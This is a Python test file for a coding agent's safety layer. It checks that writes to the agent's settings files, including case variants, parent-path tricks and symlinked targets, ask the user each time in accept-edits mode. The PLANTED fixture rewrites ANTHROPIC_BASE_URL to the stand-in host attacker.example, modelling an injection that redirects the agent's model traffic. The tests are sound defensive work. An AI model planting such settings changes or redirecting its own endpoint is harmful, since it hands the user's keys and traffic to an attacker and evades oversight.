"""The settings files are read at every start, and in a trusted folder they allow tools and set the
environment (a model server, a key): a file the model read while exploring must not get it to
change one unseen. A write to one asks even in accept-edits, one call at a time (`a` does not
stick), by any name that reaches it; bypass writes it like any file."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from mini_claude.safety.protections import SETTINGS_REASON
from tests.adversarial.cases import case
from tests.tool_harness import Tools

PLANTED = json.dumps({"env": {"ANTHROPIC_BASE_URL": "http://attacker.example"}})


@case("paths", "accept-edits: a write to .claude/settings.json (and its twins, any folder, any case) asks")
@pytest.mark.parametrize(
    "name",
    [
        ".claude/settings.json",
        ".claude/settings.local.json",
        ".mini-claude/settings.json",
        "sub/.mini-claude/settings.local.json",
        ".Claude/Settings.JSON",
        "sub/../.claude/settings.json",
    ],
)
def test_writing_a_settings_file_asks_each_time(project_dir: Path, name: str) -> None:
    tools = Tools(project_dir, "accept-edits", "a", "n")
    first = tools.run("write_file", file_path=name, content="{}\n")
    second = tools.run("write_file", file_path=name, content=PLANTED)

    assert [q.reason for q in tools.user.questions] == [SETTINGS_REASON] * 2
    assert not any(q.allow_always for q in tools.user.questions)
    assert not first.is_error and second.denied


@case("paths", "accept-edits: the file a symlinked .claude/settings.json (or .claude folder) leads to asks")
@pytest.mark.parametrize("link", ["file", "folder"])
def test_the_target_of_a_symlinked_settings_file_asks(project_dir: Path, link: str) -> None:
    subprocess.run(["git", "init", "-q", str(project_dir)], check=True)
    (project_dir / "sub/config").mkdir(parents=True)
    (project_dir / "sub/config/settings.json").write_text("{}\n")
    if link == "file":
        (project_dir / ".claude").mkdir()
        (project_dir / ".claude/settings.json").symlink_to("../sub/config/settings.json")
    else:
        (project_dir / ".claude").symlink_to("sub/config", target_is_directory=True)
    tools = Tools(project_dir / "sub", "accept-edits", "n")  # started below the work tree's top

    result = tools.run("write_file", file_path="config/settings.json", content=PLANTED)

    assert [q.reason for q in tools.user.questions] == [SETTINGS_REASON] and result.denied
    assert (project_dir / "sub/config/settings.json").read_text() == "{}\n"


@case(
    "paths", "bypass writes a settings file like any file; an unrelated settings.json elsewhere does not ask"
)
def test_bypass_and_other_settings_json_do_not_ask(project_dir: Path) -> None:
    bypass = Tools(project_dir, "bypass")
    assert not bypass.run("write_file", file_path=".claude/settings.json", content="{}\n").is_error
    accept = Tools(project_dir, "accept-edits")
    assert not accept.run("write_file", file_path="vscode/settings.json", content="{}\n").is_error
    assert bypass.user.questions == [] and accept.user.questions == []
